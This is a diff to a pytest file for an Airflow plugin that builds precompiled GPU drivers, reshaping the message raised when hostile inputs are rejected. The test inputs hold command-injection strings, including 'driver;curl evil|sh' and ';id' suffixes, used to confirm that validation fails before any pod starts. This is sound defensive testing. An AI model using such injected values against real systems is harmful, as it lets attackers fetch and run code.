@@ -13,6 +13,7 @@ The trigger's side (an update graph that is down or answers garbage) is at the e
 from __future__ import annotations
 
 import math
+import traceback
 from typing import Any
 
 import pytest
@@ -299,7 +300,8 @@ def test_installation_setting_refused(name: str, value: str) -> None:
 
 def test_the_task_refuses_before_planning(monkeypatch: pytest.MonkeyPatch) -> None:
     """``validate_inputs`` (the DAG's first task) fails for good on a hostile field or Variable:
-    ``AirflowFailException`` (no retry), the message naming the field, the cause the validation error."""
+    ``AirflowFailException`` (no retry), one line naming the field, the bad value and the expected
+    form, and no chained validation traceback to bury it."""
     from airflow.sdk.exceptions import AirflowFailException
 
     monkeypatch.setenv("PRECOMPILED_DRIVERS_TARGET_REPOSITORY", "quay.io/acme/nvidia")
@@ -308,9 +310,15 @@ def test_the_task_refuses_before_planning(monkeypatch: pytest.MonkeyPatch) -> No
     params["image_name"] = "driver;curl evil|sh"
     with pytest.raises(AirflowFailException) as err:
         tasks.validate_inputs(params)
-    assert isinstance(err.value.__cause__, ValidationError)
-    assert_names(err.value.__cause__, "image_name")
-    assert "image_name" in str(err.value) and "no pod was started" in str(err.value)
+    assert str(err.value) == (
+        "input rejected, no pod was started: image_name: got 'driver;curl evil|sh' "
+        "(contains shell metacharacter ';') — expected an image name of lowercase letters, digits and "
+        "'-' like nvidia-gpu-driver (CRD pattern [a-zA-Z0-9-]+; image references must be lowercase)"
+    )
+    assert err.value.__cause__ is None and err.value.__suppress_context__
+    shown = "".join(traceback.format_exception(err.value))
+    ours = [line for line in shown.splitlines() if "plugins/precompiled_drivers" in line]
+    assert len(ours) == 1 and "tasks.py" in ours[0], shown
 
     def hostile_variables() -> discovery.DiscoverySettings:
         return discovery.settings_from_values({discovery.VAR_LOOKAHEAD_LIMIT: "3;id"})
@@ -318,8 +326,8 @@ def test_the_task_refuses_before_planning(monkeypatch: pytest.MonkeyPatch) -> No
     monkeypatch.setattr(discovery, "load_settings", hostile_variables)
     with pytest.raises(AirflowFailException) as err:
         tasks.validate_inputs(valid_params())
-    assert isinstance(err.value.__cause__, discovery.SettingsError)
-    assert_names(err.value.__cause__, discovery.VAR_LOOKAHEAD_LIMIT)
+    assert discovery.VAR_LOOKAHEAD_LIMIT in str(err.value) and "'3;id'" in str(err.value)
+    assert "\n" not in str(err.value) and err.value.__cause__ is None
 
     monkeypatch.setenv("PRECOMPILED_DRIVERS_RETRY_DELAY_SECONDS", "30;id")
     monkeypatch.setattr(discovery, "load_settings", lambda: discovery.settings_from_values({}))
